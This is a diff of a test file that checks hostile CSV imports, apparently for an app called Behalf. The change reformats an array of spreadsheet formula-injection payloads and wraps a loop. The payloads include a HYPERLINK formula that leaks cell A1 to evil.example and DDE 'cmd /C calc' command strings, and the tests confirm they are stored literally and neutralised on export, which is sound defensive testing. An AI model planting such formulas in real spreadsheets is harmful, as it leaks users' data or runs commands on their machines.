@@ -77,7 +77,13 @@ describe('hostile CSV imports', () => {
   });
 
   it('formula injection is stored literally, and neutralised where Behalf writes CSV', async () => {
-    const formulas = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '=1+1'];
+    const formulas = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+      "+cmd|' /C calc'!A0",
+      "@SUM(1+1)*cmd|' /C calc'!A0",
+      "-2+3+cmd|' /C calc'!A0",
+      '=1+1',
+    ];
     const csv = 'name,domain,notes,contact_name\n' + formulas.map((f, i) => [q(f), `formula-${i}.com`, q(f), q(f)].join(',')).join('\n') + '\n';
     const r = await importCsv(csv, 'formulas');
     expect(r.result).toMatchObject({ imported: formulas.length, errors: [] });
@@ -105,7 +111,8 @@ describe('hostile CSV imports', () => {
         expect(s.tenants.find(field === 'domain' ? expected : domain)[field], label).toBe(expected);
       }
     };
-    for (const { label, value, expect: typed, csv } of HOSTILE_DOMAINS) await check(`name,domain\nD,${q(value)}\n`, '', 'domain', csv ?? typed, `domain ${label}`);
+    for (const { label, value, expect: typed, csv } of HOSTILE_DOMAINS)
+      await check(`name,domain\nD,${q(value)}\n`, '', 'domain', csv ?? typed, `domain ${label}`);
     for (const { label, value, expect: typed, csv } of HOSTILE_EMAILS) {
       const expected = csv ?? typed;
       const domain = `csv-e${++n}.com`;
